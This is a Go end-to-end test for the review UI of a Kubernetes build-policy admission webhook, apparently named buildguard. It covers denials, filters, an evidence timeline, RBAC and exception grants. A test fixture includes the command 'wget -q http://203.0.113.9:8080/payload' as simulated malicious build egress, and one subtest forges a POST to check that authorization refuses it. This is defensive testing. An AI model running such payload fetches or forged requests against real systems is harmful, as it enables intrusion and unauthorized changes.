package e2e

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"buildguard.dev/buildguard/internal/testbrowser"
	"buildguard.dev/buildguard/internal/testregistry"
)

// reviewerRBAC binds the manifests' buildguard-reviewer role to the
// service account "reviewer", and a role that may only list decisions to
// "viewer".
const reviewerRBAC = `apiVersion: v1
kind: ServiceAccount
metadata: {name: reviewer, namespace: buildguard-system}
---
apiVersion: v1
kind: ServiceAccount
metadata: {name: viewer, namespace: buildguard-system}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: e2e-reviewer}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: buildguard-reviewer}
subjects: [{kind: ServiceAccount, name: reviewer, namespace: buildguard-system}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: e2e-decision-viewer}
rules: [{apiGroups: [buildguard.dev], resources: [decisions], verbs: [list]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: e2e-viewer}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: e2e-decision-viewer}
subjects: [{kind: ServiceAccount, name: viewer, namespace: buildguard-system}]
`

// browser starts a headless Chromium with a fresh profile that resolves
// no host name, so that the page can reach nothing but the loopback
// addresses it is given. It ignores certificate errors: the review UI
// serves the webhook's self-managed CA's certificate for "localhost".
func browser(t *testing.T, ctx context.Context) context.Context {
	t.Helper()
	return testbrowser.Start(t, ctx)
}

// step runs browser actions with a deadline.
func step(t *testing.T, bctx context.Context, what string, actions ...chromedp.Action[chromedp.Void]) {
	t.Helper()
	ctx, cancel := context.WithTimeout(bctx, 30*time.Second)
	defer cancel()
	if err := chromedp.Do(ctx, actions...); err != nil {
		t.Fatalf("%s: %v\npage: %s", what, err, pageText(bctx))
	}
}

// pageText is what a person sees of the page.
func pageText(bctx context.Context) string {
	ctx, cancel := context.WithTimeout(bctx, 10*time.Second)
	defer cancel()
	s, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body ? document.body.innerText : ""`))
	if err != nil {
		return "(no text: " + err.Error() + ")"
	}
	return s
}

// press clicks the button sel as a person would, and returns at once: the
// click's navigation is awaited with loaded. (chromedp.Click waits for
// an answer that a navigating page does not always send.)
func press(sel string) chromedp.Action[chromedp.Void] {
	return chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := chromedp.Evaluate[bool](fmt.Sprintf(`(() => { const b = document.querySelector(%q); if (!b) return false; b.click(); return true; })()`, sel))(ctx, t)
		return err
	})
}

// clearInput empties a text field (chromedp.SetValue refuses "").
func clearInput(sel string) chromedp.Action[chromedp.Void] {
	return chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		ok, err := chromedp.Evaluate[bool](fmt.Sprintf(`(() => { const i = document.querySelector(%q); if (!i) return false; i.value = ""; return true; })()`, sel))(ctx, t)
		if err == nil && !ok {
			err = fmt.Errorf("no %s", sel)
		}
		return err
	})
}

// loaded waits until the page's address satisfies cond (a JavaScript
// expression over location) and the page has loaded. It asks again and
// again from here: a navigation destroys whatever waits in the page.
func loaded(cond string) chromedp.Action[chromedp.Void] {
	return chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		expr := `(` + cond + `) && document.readyState === "complete"`
		for {
			ok, err := chromedp.Evaluate[bool](expr)(ctx, t)
			if err == nil && ok {
				return nil
			}
			select {
			case <-ctx.Done():
				return fmt.Errorf("waiting for %s: %w (last: %v)", cond, ctx.Err(), err)
			case <-time.After(100 * time.Millisecond):
			}
		}
	})
}

func TestReviewUI(t *testing.T) {
	if _, err := os.Stat(testbrowser.ChromiumPath); err != nil {
		t.Fatalf("the review UI is tested in a real browser, and %s is missing (install Debian's chromium package): %v", testbrowser.ChromiumPath, err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Minute)
	defer cancel()
	dir := t.TempDir()
	e := startEnv(t, ctx, dir)
	cp, reg := e.cp, e.reg

	// One image built on a worker an hour ago, whose build talked to a raw
	// IP, one built seconds ago. The first one's created time is inside the
	// build the node reports, as a real build's is: otherwise it is also
	// inconsistent-created-time.
	start := time.Now().Add(-time.Hour).UTC().Truncate(time.Second)
	built, err := testregistry.MakeImage(testregistry.Image{Created: start.Add(30 * time.Second)})
	if err != nil {
		t.Fatal(err)
	}
	apiDigest, err := reg.Push("e2e/api:1", built)
	if err != nil {
		t.Fatal(err)
	}
	builtConfig, err := built.ConfigName()
	if err != nil {
		t.Fatal(err)
	}
	fresh, err := testregistry.MakeImage(testregistry.Image{Created: time.Now()})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := reg.Push("e2e/site:1", fresh); err != nil {
		t.Fatal(err)
	}
	apiImage, siteImage := reg.Host+"/e2e/api:1", reg.Host+"/e2e/site:1"

	root, err := Root()
	if err != nil {
		t.Fatal(err)
	}
	e.mustKubectl("", "apply", "-f", filepath.Join(root, "manifests", "crd"))
	e.mustKubectl("", "create", "namespace", "buildguard-system")
	// The manifests' RBAC, with the buildguard-reviewer role.
	e.mustKubectl("", "apply", "-f", filepath.Join(root, "manifests", "base", "rbac.yaml"))
	e.mustKubectl(reviewerRBAC, "apply", "-f", "-")
	e.applyPolicy(PolicyYAML(reg.Host, "10m"))

	bin, err := BuildBuildguard(ctx, dir)
	if err != nil {
		t.Fatal(err)
	}
	reviewPort, err := FreePort()
	if err != nil {
		t.Fatal(err)
	}
	reviewURL := fmt.Sprintf("https://127.0.0.1:%d", reviewPort)
	bg, err := StartBuildguard(ctx, bin, dir, cp, reg.CAFile, "--store-sqlite="+filepath.Join(dir, "evidence.db"),
		fmt.Sprintf("--review-listen=127.0.0.1:%d", reviewPort))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(bg.Stop)
	t.Cleanup(func() {
		if t.Failed() && bg.Proc != nil {
			t.Logf("--- buildguard log tail:\n%s", bg.Proc.Tail(5000))
		}
	})
	e.mustKubectl(WebhookYAML(bg.URL), "apply", "-f", "-")
	caPEM, err := base64.StdEncoding.DecodeString(e.waitReady("shop", "web"))
	if err != nil {
		t.Fatalf("caBundle: %v", err)
	}

	// worker-3 reports building the api image and a connection to a raw IP
	// during the build; then both images are denied.
	e.mustKubectl("", "create", "namespace", "buildguard-node-agent")
	e.mustKubectl("", "create", "serviceaccount", "buildguard-node-agent", "-n", "buildguard-node-agent")
	e.mustKubectl(AgentPodYAML("worker-3"), "apply", "-f", "-")
	agentToken := strings.TrimSpace(e.mustKubectl("", "create", "token", "buildguard-node-agent", "-n", "buildguard-node-agent", "--audience=buildguard",
		"--bound-object-kind=Pod", "--bound-object-name=node-agent-worker-3"))
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(caPEM)
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool}}}
	report := fmt.Sprintf(`{"apiVersion":"buildguard.dev/v1alpha1","kind":"NodeReport","node":"worker-3","sensor":"ebpf",
"builds":[{"eventID":"build-api","tool":"docker","imageID":%q,"started":%q,"finished":%q}],
"connections":[{"eventID":"conn-api","time":%q,"process":"wget","pid":4242,"cmdline":"wget -q http://203.0.113.9:8080/payload","destIP":"203.0.113.9","destPort":8080}]}`,
		builtConfig.String(), start.Format(time.RFC3339), start.Add(time.Minute).Format(time.RFC3339), start.Add(20*time.Second).Format(time.RFC3339))
	req, _ := http.NewRequestWithContext(ctx, http.MethodPost, strings.TrimSuffix(bg.URL, "/validate")+"/v1/node-reports", strings.NewReader(report))
	req.Header.Set("Authorization", "Bearer "+agentToken)
	resp, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("POST /v1/node-reports = %d %s", resp.StatusCode, body)
	}
	if out, err := e.kubectl(podYAML("shop", "api", apiImage), "apply", "-f", "-"); err == nil || !strings.Contains(out, "[host-built]") {
		t.Fatalf("api pod: %v %s, want a host-built denial", err, out)
	}
	if out, err := e.kubectl(podYAML("web", "site", siteImage), "apply", "-f", "-"); err == nil || !strings.Contains(out, "[fresh-image]") {
		t.Fatalf("site pod: %v %s, want a fresh-image denial", err, out)
	}

	reviewerToken := strings.TrimSpace(e.mustKubectl("", "create", "token", "reviewer", "-n", "buildguard-system"))
	viewerToken := strings.TrimSpace(e.mustKubectl("", "create", "token", "viewer", "-n", "buildguard-system"))

	b := browser(t, ctx)
	login := func(b context.Context, token string) {
		t.Helper()
		step(t, b, "login prompt",
			chromedp.Navigate(reviewURL+"/"),
			loaded(`location.pathname === "/login"`),
			chromedp.WaitVisible(chromedp.CSS("#token")),
		)
		if got := pageText(b); !strings.Contains(got, "Paste a Kubernetes bearer token") {
			t.Fatalf("the login page says %q", got)
		}
		step(t, b, "log in",
			chromedp.SetValue(chromedp.CSS("#token"), token),
			press("form.login button"),
			// The overview is the landing page.
			loaded(`location.pathname === "/"`),
			chromedp.WaitVisible(chromedp.CSS("#h-verdicts")),
		)
	}
	login(b, reviewerToken)

	var detailURL string
	t.Run("the list shows the recorded denials", func(t *testing.T) {
		// Records reach the store asynchronously.
		e.eventually(30*time.Second, "both denials listed", func() error {
			step(t, b, "reload", chromedp.Navigate(reviewURL+"/decisions"), loaded(`location.pathname === "/decisions"`))
			got := pageText(b)
			for _, want := range []string{"system:serviceaccount:buildguard-system:reviewer", "Pod api", "Pod site", "host-built", "fresh-image", apiImage, siteImage} {
				if !strings.Contains(got, want) {
					return fmt.Errorf("the list does not show %q:\n%s", want, got)
				}
			}
			return nil
		})
	})

	t.Run("the namespace and rule filters work", func(t *testing.T) {
		step(t, b, "filter by namespace",
			chromedp.SetValue(chromedp.CSS(`input[name="namespace"]`), "shop"),
			press("form.filter button"),
			loaded(`location.search.includes("namespace=shop")`),
			chromedp.WaitVisible(chromedp.CSS("table.decisions")),
		)
		if got := pageText(b); !strings.Contains(got, "Pod api") || strings.Contains(got, "Pod site") {
			t.Errorf("namespace shop lists:\n%s", got)
		}
		step(t, b, "filter by rule",
			clearInput(`input[name="namespace"]`),
			chromedp.SetValue(chromedp.CSS(`select[name="rule"]`), "fresh-image"),
			press("form.filter button"),
			loaded(`location.search.includes("rule=fresh-image")`),
			chromedp.WaitVisible(chromedp.CSS("table.decisions")),
		)
		if got := pageText(b); !strings.Contains(got, "Pod site") || strings.Contains(got, "Pod api") {
			t.Errorf("rule fresh-image lists:\n%s", got)
		}
		step(t, b, "filter by rule that found nothing in shop",
			chromedp.SetValue(chromedp.CSS(`input[name="namespace"]`), "shop"),
			press("form.filter button"),
			loaded(`location.search.includes("namespace=shop") && location.search.includes("rule=fresh-image")`),
		)
		if got := pageText(b); !strings.Contains(got, "No decisions match.") {
			t.Errorf("rule fresh-image in shop lists:\n%s", got)
		}
	})

	t.Run("the detail page shows the evidence chain", func(t *testing.T) {
		step(t, b, "open the shop denial",
			chromedp.Navigate(reviewURL+"/decisions?namespace=shop"),
			loaded(`location.search.includes("namespace=shop")`),
			press(`table.decisions a[href^="/decisions/"]`),
			loaded(`location.pathname.startsWith("/decisions/")`),
			chromedp.WaitVisible(chromedp.CSS("ol.timeline")),
		)
		var err error
		detailURL, err = chromedp.Run(b, chromedp.Evaluate[string](`location.href`))
		if err != nil {
			t.Fatal(err)
		}
		got := pageText(b)
		for _, want := range []string{
			"Built on node worker-3 with docker",
			"worker-3 is not an approved build node",
			"wget (pid 4242) on worker-3 connected to 203.0.113.9:8080",
			// The policy checks neither: the timeline says so, in grey.
			"Signatures not checked by this policy",
			"Provenance not checked by this policy",
			"Denied",
			"rules: host-built, untrusted-egress",
			"Grant exception for " + reg.Host + "/e2e/api@sha256:",
		} {
			if !strings.Contains(got, want) {
				t.Errorf("the detail page does not say %q:\n%s", want, got)
			}
		}
		if strings.Index(got, "Built on node worker-3") > strings.Index(got, "connected to 203.0.113.9") ||
			strings.Index(got, "connected to 203.0.113.9") > strings.LastIndex(got, "Denied") {
			t.Errorf("the timeline is out of order:\n%s", got)
		}
		step(t, b, "raw evidence",
			press(`a[href$="/raw"]`),
			loaded(`location.pathname.endsWith("/raw")`),
		)
		if raw := pageText(b); !strings.Contains(raw, `"destIP": "203.0.113.9"`) || !strings.Contains(raw, `"node": "worker-3"`) {
			t.Errorf("the raw record lacks the evidence:\n%s", raw)
		}
	})
	if detailURL == "" {
		t.Fatal("no detail page to go on with")
	}

	t.Run("a reader without create permission sees no Grant button and is refused", func(t *testing.T) {
		vb := browser(t, ctx)
		login(vb, viewerToken)
		step(t, vb, "open the denial", chromedp.Navigate(detailURL), chromedp.WaitVisible(chromedp.CSS("ol.timeline")))
		if got := pageText(vb); strings.Contains(got, "Grant exception") || !strings.Contains(got, "You may not grant exceptions in namespace shop.") {
			t.Errorf("the viewer's detail page:\n%s", got)
		}
		// A POST forged in the viewer's own session, with a valid CSRF
		// token (from the logout form): the authorization check refuses it.
		forge := fmt.Sprintf(`(async () => {
  const csrf = document.querySelector('form.logout input[name="csrf"]').value;
  const expires = new Date(Date.now() + 864e5).toISOString().slice(0, 16);
  const r = await fetch(location.pathname + '/exceptions', {method: 'POST',
    body: new URLSearchParams({csrf, image: %q, reason: 'forged', expires})});
  return r.status + ' ' + await r.text();
})()`, reg.Host+"/e2e/api@"+apiDigest.String())
		got, err := chromedp.Run(vb, chromedp.Evaluate[string](forge, chromedp.EvalAwaitPromise))
		if err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(got, "403 ") || !strings.Contains(got, "may not create buildpolicyexceptions in namespace shop") {
			t.Errorf("forged grant = %.300q, want 403 from the authorization check", got)
		}
		if out := e.mustKubectl("", "get", "buildpolicyexceptions", "-n", "shop", "-o", "name"); strings.TrimSpace(out) != "" {
			t.Errorf("exceptions after the forged POST: %s", out)
		}
	})

	t.Run("a granted exception admits the image at its next admission", func(t *testing.T) {
		step(t, b, "grant",
			chromedp.Navigate(detailURL),
			chromedp.WaitVisible(chromedp.CSS("form.grant")),
			chromedp.SetValue(chromedp.CSS(`form.grant input[name="reason"]`), "INC-4711: rebuilt in the pipeline by Friday"),
			press("form.grant button"),
			loaded(`location.search.includes("granted=")`),
		)
		got := pageText(b)
		if !strings.Contains(got, "Exception shop/review-") || !strings.Contains(got, "granted") {
			t.Fatalf("after granting, the page says:\n%s", got)
		}
		out := e.mustKubectl("", "get", "buildpolicyexceptions", "-n", "shop", "-o",
			`jsonpath={range .items[*]}{.spec.approvedBy} {.metadata.annotations.buildguard\.dev/granted-by} {.spec.reason} {.spec.images[0]}{"\n"}{end}`)
		who := "system:serviceaccount:buildguard-system:reviewer"
		if !strings.HasPrefix(out, who+" "+who+" INC-4711: rebuilt in the pipeline by Friday "+reg.Host+"/e2e/api@sha256:") || strings.Count(out, "\n") != 1 {
			t.Errorf("exceptions: %q", out)
		}
		e.eventually(30*time.Second, "the api pod admitted under the exception", func() error {
			out, err := e.kubectl(podYAML("shop", "api", apiImage), "apply", "-f", "-")
			if err != nil {
				return fmt.Errorf("%v: %s", err, out)
			}
			if !strings.Contains(out, "admitted by exception shop/review-") {
				return fmt.Errorf("no exception warning in %q", out)
			}
			return nil
		})
		// The exception is scoped to the digest: the fresh image in web is
		// still denied.
		if out, err := e.kubectl(podYAML("web", "site", siteImage), "apply", "-f", "-"); err == nil {
			t.Errorf("site pod admitted: %s", out)
		}
	})
}
